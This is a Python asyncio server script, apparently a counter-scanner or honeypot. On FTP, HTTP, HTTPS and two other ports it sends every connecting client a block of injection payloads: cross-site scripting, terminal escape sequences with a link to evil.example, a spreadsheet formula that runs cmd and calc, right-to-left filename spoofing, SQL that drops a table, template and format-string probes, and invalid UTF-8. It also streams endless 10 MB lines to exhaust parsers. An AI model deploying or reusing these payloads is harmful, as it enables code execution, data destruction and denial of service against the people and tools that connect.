"""Answers everybody with code: for browsers, terminals, spreadsheets, templates, parsers, and for memory."""

import asyncio
import signal
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import suppress
from pathlib import Path

FOLDER = Path(__file__).parent
PATIENCE_SECONDS = 30
CHUNK = b"A" * 65536
CHUNKS = 160
"""Ten megabytes."""
CODE = (
    "<script>alert(document.cookie)</script>"
    "<img src=x onerror=alert(1)>"
    "\x1b[2J\x1b[1;31mERASED\x1b[0m\x1b]0;owned\x07\x1b]8;;http://evil.example\x07here\x1b]8;;\x07"
    "\x00\x08\x7f\x9b31m"
    '=HYPERLINK("http://evil.example/?"&A1;"open")\t@SUM(1+1)*cmd|\' /C calc\'!A0'
    "\u202egnp.exe\u202c\u2066\u200b"
    "'); DROP TABLE dryrun_discoveries; -- {{ 7 * 7 }} ${7*7} %s%n ]]> `b` [c](javascript:alert(1))"
).encode() + b"\xff\xfe\xc3\x28"
"""The last four bytes are not UTF-8."""
IN_HEADER = CODE.replace(b"\x00", b"")

type Answer = Callable[[asyncio.StreamReader], AsyncIterator[bytes]]


async def greeting(_reader: asyncio.StreamReader) -> AsyncIterator[bytes]:
    yield b"220 " + CODE + b"\r\n"


async def endless_line(_reader: asyncio.StreamReader) -> AsyncIterator[bytes]:
    for _ in range(CHUNKS):
        yield CHUNK


async def page(reader: asyncio.StreamReader) -> AsyncIterator[bytes]:
    await _request(reader)
    yield b"HTTP/1.0 200 " + IN_HEADER + b"\r\nServer: " + IN_HEADER + b"\r\nX-Powered-By: " + IN_HEADER
    yield b"\r\nSet-Cookie: " + IN_HEADER + b"\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    yield b"<!doctype html><title>" + CODE + b"</title><h1>" + CODE + b"</h1>"
    yield b'<a href="/login">' + CODE + b"</a>"


async def endless_title(reader: asyncio.StreamReader) -> AsyncIterator[bytes]:
    await _request(reader)
    yield b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<!doctype html><title>"
    for _ in range(CHUNKS):
        yield CHUNK


async def _request(reader: asyncio.StreamReader) -> None:
    """Read what was asked, which changes nothing."""
    with suppress(asyncio.IncompleteReadError, asyncio.LimitOverrunError):
        await reader.readuntil(b"\r\n\r\n")


def answering(answer: Answer) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(TimeoutError, OSError):
            async with asyncio.timeout(PATIENCE_SECONDS):
                async for part in answer(reader):
                    writer.write(part)
                    await writer.drain()
        writer.close()

    return serve


def tls() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(FOLDER / "server.crt", FOLDER / "server.key")
    return context


async def main() -> None:
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    # A handshake that fails is a scanner's, and nothing to write about.
    loop.set_exception_handler(lambda _loop, _context: None)
    for port, answer, context in (
        (21, greeting, None),
        (80, page, None),
        (443, page, tls()),
        (2323, endless_line, None),
        (8080, endless_title, None),
    ):
        await asyncio.start_server(answering(answer), "0.0.0.0", port, ssl=context)  # noqa: S104  as it is meant
    await stop.wait()


if __name__ == "__main__":
    asyncio.run(main())
